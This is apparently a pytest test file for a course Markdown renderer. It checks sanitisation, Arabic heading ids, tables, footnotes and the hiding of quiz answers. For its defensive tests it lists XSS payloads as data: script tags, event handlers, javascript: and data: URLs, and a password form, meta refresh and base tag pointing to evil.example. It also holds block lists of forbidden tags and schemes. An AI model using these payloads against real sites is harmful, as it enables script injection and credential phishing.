"""Rendering course Markdown: hostile input comes out inert, Arabic headings get usable ids."""

from html.parser import HTMLParser
from pathlib import Path

import pytest

from depomi_learn.content import (
    load_course,
    render_inline,
    render_markdown,
    render_module,
    render_question_text,
)

FIXTURE = Path(__file__).resolve().parent / "fixtures" / "courses" / "valid-course"
FORBIDDEN_TAGS = {"script", "style", "iframe", "object", "embed", "form", "input", "svg", "math"}
FORBIDDEN_SCHEMES = ("javascript:", "data:", "vbscript:")


class Elements(HTMLParser):
    """Collect every start tag with its attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Elements()
    parser.feed(html)
    return parser.elements


def asset_url(path: str) -> str:
    return f"/courses/c/assets/0123/{path}"


def render(text: str, language: str = "fr") -> str:
    return render_markdown(text, language=language, asset_url=asset_url).html


HOSTILE = {
    "script-tag": "<script>alert(1)</script>",
    "onerror": '<img src="../assets/x.png" onerror="alert(1)">',
    "javascript-link-html": '<a href="javascript:alert(1)">x</a>',
    "javascript-link-markdown": "[x](javascript:alert(1))",
    "javascript-mixed-case": "[x](JaVaScRiPt:alert(1))",
    "javascript-entity": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "data-image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "data-link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "iframe": '<iframe src="https://example.org"></iframe>',
    "object-embed": '<object data="x.swf"></object><embed src="x.swf">',
    "event-handler": '<div onclick="alert(1)" onmouseover="alert(2)">x</div>',
    "svg-script": "<svg><script>alert(1)</script><circle onload='alert(1)'/></svg>",
    "attr-list-heading": '## Titre {onclick="alert(1)"}',
    "attr-list-paragraph": 'Texte\n{: onclick="alert(1)" style="color:red" }',
    "attr-list-fence": '```{.python onclick="alert(1)"}\ncode\n```',
    "style-attribute": '<p style="position:fixed;top:0">x</p>',
    "style-tag": "<style>body{display:none}</style>",
    "form": '<form action="https://evil.example"><input name="password"></form>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base-tag": '<base href="https://evil.example/">',
    "link-title-breakout": '[x](https://example.org "a\\" onmouseover=\\"alert(1)")',
}


def test_every_hostile_case_is_tested_once() -> None:
    assert len(HOSTILE) == len(set(HOSTILE.values()))


@pytest.mark.parametrize("markdown_text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_markdown_renders_inert(markdown_text: str) -> None:
    html = render(markdown_text)
    for tag, attributes in elements(html):
        assert tag not in FORBIDDEN_TAGS, html
        assert tag in {"a", "img", "p", "h2", "pre", "code", "div"} or not attributes, html
        for name, value in attributes.items():
            assert not name.startswith("on"), html
            assert name not in {"style", "dir", "srcdoc", "formaction"}, html
            assert not (value or "").strip().lower().startswith(FORBIDDEN_SCHEMES), html


def test_links_open_without_giving_the_page_away() -> None:
    html = render("[DGCL](https://www.example.ma) et <a href='mailto:x@example.ma'>nous</a>")
    anchors = [attrs for tag, attrs in elements(html) if tag == "a"]
    assert [a["href"] for a in anchors] == ["https://www.example.ma", "mailto:x@example.ma"]
    assert all(a["rel"] == "noopener noreferrer" for a in anchors)


def test_arabic_heading_gets_an_id_with_arabic_letters() -> None:
    rendered = render_markdown(
        "# السياق العام\n\n## الفاعلون\n\n## الفاعلون\n", language="ar", asset_url=asset_url
    )
    ids = [attrs["id"] for tag, attrs in elements(rendered.html) if tag in {"h1", "h2"}]
    assert ids[0] == "السياق-العام"
    assert len(set(ids)) == 3
    assert all("ل" in heading_id for heading_id in ids)
    assert rendered.toc == [
        {"level": 1, "id": ids[0], "title": "السياق العام"},
        {"level": 2, "id": ids[1], "title": "الفاعلون"},
        {"level": 2, "id": ids[2], "title": "الفاعلون"},
    ]


def test_toc_titles_are_plain_text() -> None:
    rendered = render_markdown("## Les *acteurs* & co", language="fr", asset_url=asset_url)
    assert rendered.toc == [{"level": 2, "id": "les-acteurs-co", "title": "Les acteurs & co"}]


def test_ids_not_made_by_headings_are_dropped() -> None:
    html = render('<h2 id="csrf_token">x</h2>\n\n<li id="login">y</li>')
    assert "csrf_token" not in html
    assert 'id="login"' not in html


def test_tables_render_with_alignment_but_no_style() -> None:
    html = render("| Année | Étape |\n|:-:|---|\n| 2014 | Adoption |\n")
    assert "<table>" in html
    assert '<th align="center">Année</th>' in html
    assert "style" not in html


def test_admonitions_and_details_render_with_their_class() -> None:
    html = render('!!! warning "Attention"\n    Texte.\n\n??? note "Plus"\n    Détails.\n')
    assert '<div class="admonition warning">' in html
    assert '<p class="admonition-title">Attention</p>' in html
    assert '<details class="note">' in html
    assert "<summary>Plus</summary>" in html


def test_footnotes_keep_their_anchors() -> None:
    html = render("Texte[^1].\n\n[^1]: Source : CNDH, 2013.\n")
    assert 'href="#fn:1"' in html
    assert 'id="fn:1"' in html


def test_images_from_assets_get_asset_urls_and_others_are_not_fetched() -> None:
    html = render(
        "![carte](../assets/maps/region.png)\n\n![x](photo.png)\n\n<img src='/logout'>",
        language="ar",
    )
    sources = [attrs.get("src") for tag, attrs in elements(html) if tag == "img"]
    assert sources == ["/courses/c/assets/0123/maps/region.png", None, None]


def test_links_to_modules_use_module_urls() -> None:
    html = render_markdown(
        "[suite](02-acteurs.md#section) et [guide](../assets/guide.pdf)",
        language="fr",
        asset_url=asset_url,
        module_url=lambda path: f"/modules/{path}",
    ).html
    hrefs = [attrs["href"] for tag, attrs in elements(html) if tag == "a"]
    assert hrefs == ["/modules/fr/02-acteurs.md#section", "/courses/c/assets/0123/guide.pdf"]


def test_html_has_no_text_direction() -> None:
    assert "dir=" not in render('<p dir="ltr">x</p>\n\n<bdo dir="rtl">y</bdo>', language="ar")


def test_inline_text_has_no_paragraph() -> None:
    assert render_inline("La **DGCL**", language="fr", asset_url=asset_url) == (
        "La <strong>DGCL</strong>"
    )


def test_quiz_blocks_never_reach_the_module_html() -> None:
    course, _ = load_course(FIXTURE)
    evaluation = course.modules[1]
    for language, module in evaluation.texts.items():
        html = render_module(module, asset_url=asset_url).html
        assert "quiz" not in html
        for question in module.questions:
            text = question.text
            secrets = [text.prompt, text.explanation, *text.accept, *text.feedback.values()]
            secrets += [option.feedback for option in text.options]
            for secret in filter(None, secrets):
                assert secret not in html, (language, secret)
        assert "correct" not in html


def test_question_texts_are_rendered_separately_per_language() -> None:
    course, _ = load_course(FIXTURE)
    single = course.modules[1].questions[0]
    rendered = render_question_text(single.texts["ar"], language="ar", asset_url=asset_url)
    assert rendered["prompt_html"] == "<p>في أي سنة اعتُمدت الاستراتيجية؟</p>"
    assert rendered["options"][0] == {
        "id": "a",
        "html": "2014",
        "feedback_html": "نعم، في شتنبر 2014.",
    }
    assert rendered["explanation_html"] == "<p>اعتُمدت الاستراتيجية سنة 2014.</p>"
    assert "correct" not in str(rendered)
